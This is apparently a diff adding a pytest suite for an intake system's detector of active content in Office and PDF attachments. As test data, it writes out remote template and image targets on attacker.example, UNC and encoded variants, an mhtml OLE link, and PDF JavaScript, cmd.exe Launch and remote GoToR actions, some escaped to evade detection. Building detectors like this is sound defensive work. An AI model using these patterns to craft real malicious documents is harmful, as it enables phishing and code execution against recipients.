@@ -1,0 +1,188 @@
+"""What loads from elsewhere, or runs, when a clerk opens it."""
+
+import io
+import zipfile
+import zlib
+from collections.abc import Mapping
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from intake.core import active_content
+from intake.core.active_content import is_active
+from intake.core.attachments import DOCX, JPEG, PDF, XLSX, kind_of
+from tests.unit.intake.core.test_attachments import office
+
+_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_LIST = "http://schemas.openxmlformats.org/package/2006/relationships"
+_RELS = "word/_rels/document.xml.rels"
+
+
+def relation(kind: str, target: str, mode: str = "External") -> bytes:
+    """A list of one relationship."""
+    said = f'<Relationship Id="rId1" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_LIST}">{said}</Relationships>'.encode()
+
+
+def document(parts: Mapping[str, bytes], *, of: str = "word/document.xml") -> io.BytesIO:
+    """An office file with these parts as well."""
+    written = io.BytesIO(office(of))
+    with zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return written
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("attachedTemplate", "https://attacker.example/a.dotm"),
+        ("attachedTemplate", "file:////attacker.example/share/a.dotm"),
+        ("attachedTemplate", r"\\attacker.example\share\a.dotm"),
+        ("attachedTemplate", "file:%2F%2F/attacker.example/share/a.dotm"),
+        ("image", "http://attacker.example/seen.png"),
+        ("image", "//attacker.example/seen.png"),
+        ("image", "&#104;ttp://attacker.example/seen.png"),
+        ("oleObject", "mhtml:http://attacker.example/a!x-usc:http://attacker.example/a"),
+        ("frame", "http://attacker.example"),
+        ("externalLinkPath", "https://attacker.example/book.xlsx"),
+    ],
+)
+def test_what_loads_from_elsewhere(kind: str, target: str) -> None:
+    """As its program finds it, however it is written."""
+    found = document({_RELS: relation(kind, target)})
+
+    assert is_active(found, DOCX)
+    assert is_active(document({"XL/_RELS/B.RELS": relation(kind, target)}, of="xl/workbook.xml"), XLSX)
+
+
+@pytest.mark.parametrize("kind", ["oleObject", "control", "aFChunk", "vbaProject", "connections"])
+def test_what_runs_whatever_its_part_is_called(kind: str) -> None:
+    """The part has the name of a picture; what it is, its relationship says."""
+    parts = {_RELS: relation(kind, "media/image1.png", "Internal"), "word/media/image1.png": b"x"}
+
+    assert is_active(document(parts), DOCX)
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "mode"),
+    [
+        ("hyperlink", "https://example.org", "External"),
+        ("attachedTemplate", r"file:///C:\Users\zhang\letter.dotx", "External"),
+        ("attachedTemplate", "Normal.dotm", "External"),
+        ("externalLinkPath", "../2025/预算.xlsx", "External"),
+        ("image", "media/image1.png", "Internal"),
+        ("styles", "styles.xml", "Internal"),
+    ],
+)
+def test_what_loads_nothing(kind: str, target: str, mode: str) -> None:
+    """A link that somebody presses, a place on the reader's own disk, a part of the file itself."""
+    assert not is_active(document({_RELS: relation(kind, target, mode)}), DOCX)
+
+
+@pytest.mark.parametrize(
+    "relations",
+    [
+        b"",
+        b"<Relationships",
+        b'<!DOCTYPE r [<!ENTITY a "http://attacker.example">]>'
+        + relation("image", "media/a.png", "Internal")[38:],
+    ],
+)
+def test_what_cannot_be_told_is_active(relations: bytes) -> None:
+    """A list that is none, or says more than it may: one program reads it thus, another otherwise."""
+    assert is_active(document({_RELS: relations}), DOCX)
+
+
+def test_two_parts_of_one_name_are_active() -> None:
+    """Programs differ in which of them they read."""
+    found = document({_RELS: relation("image", "http://attacker.example/a.png")})
+    with zipfile.ZipFile(found, "a") as archive:
+        archive.writestr(_RELS.upper(), relation("image", "media/a.png", "Internal"))
+
+    assert is_active(found, DOCX)
+
+
+def test_a_list_without_end_is_active() -> None:
+    """It is not unpacked."""
+    assert is_active(document({_RELS: b" " * (active_content._RELATIONS_BYTES + 1)}), DOCX)
+
+
+def pdf(objects: bytes) -> io.BytesIO:
+    """A file that says so, with these objects."""
+    return io.BytesIO(b"%PDF-1.7\n1 0 obj\n" + objects + b"\nendobj\n%%EOF")
+
+
+def packed(objects: bytes, *, named: bytes = b"/ObjStm") -> bytes:
+    """The same objects in a stream."""
+    return b"<</Type " + named + b"/Filter/FlateDecode>>stream\r\n" + zlib.compress(objects) + b"\nendstream"
+
+
+_SCRIPT = b"<</S /JavaScript /JS (app.launchURL)>>"
+
+
+@pytest.mark.parametrize(
+    "objects",
+    [
+        _SCRIPT,
+        b"<</S /J#61vaScript>>",
+        b"<</S/Launch/F(cmd.exe)>>",
+        b"<</OpenAction<</S/GoToR/F(\\\\attacker\\a.pdf)>>>>",
+        packed(b"x" * 1_000_000 + _SCRIPT),
+        packed(_SCRIPT, named=b"/Obj#53tm"),
+        b"x" * active_content._PIECE + _SCRIPT,
+    ],
+    ids=[
+        "script",
+        "spelled otherwise",
+        "program",
+        "another file",
+        "packed",
+        "packed, spelled otherwise",
+        "behind",
+    ],
+)
+def test_a_pdf_that_runs_something(objects: bytes) -> None:
+    """Plain or packed, and wherever it stands."""
+    assert is_active(pdf(objects), PDF)
+
+
+@pytest.mark.parametrize(
+    "objects",
+    [
+        b"<</OpenAction [3 0 R /XYZ null null 0]>> <</S/URI/URI(https://example.org)>>",
+        b"<</Title /JavaScripts /Launched>>",
+        packed(b"<</Type/Page>>"),
+        packed(b"<</Type/Page>>")[:-30],
+        b"<</Type /ObjStm/Filter/LZWDecode>>stream\nnot packed\nendstream",
+    ],
+)
+def test_an_ordinary_pdf(objects: bytes) -> None:
+    """Opened at a page, with links that somebody presses; also one whose end is missing."""
+    assert not is_active(pdf(objects), PDF)
+
+
+@given(place=st.integers(0, 2 * active_content._OVERLAP))
+def test_no_name_is_missed_between_two_pieces(place: int) -> None:
+    """Wherever the next piece begins."""
+    before = active_content._PIECE - active_content._OVERLAP + place - 18
+
+    assert is_active(pdf(b" " * before + _SCRIPT), PDF)
+    assert is_active(pdf(b" " * before + packed(_SCRIPT)), PDF)
+
+
+def test_what_nobody_looks_through_is_active(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Objects that unpack without end, and streams without number: nobody is kept waiting, and nothing is hidden so."""
+    monkeypatch.setattr(active_content, "_PACKED_BYTES", 1_000_000)
+    monkeypatch.setattr(active_content, "_MOST_PACKED", 3)
+
+    assert is_active(pdf(packed(b"x" * 3_000_000)), PDF)
+    assert is_active(pdf(packed(b"x") * 4), PDF)
+    assert not is_active(pdf(packed(b"x") * 3), PDF)
+
+
+def test_pictures_sounds_and_films_do_nothing_by_themselves() -> None:
+    """They are not looked into for that."""
+    assert not is_active(io.BytesIO(b"/JavaScript"), JPEG)
+    assert DOCX == kind_of(document({_RELS: relation("image", "http://attacker.example/a.png")}))
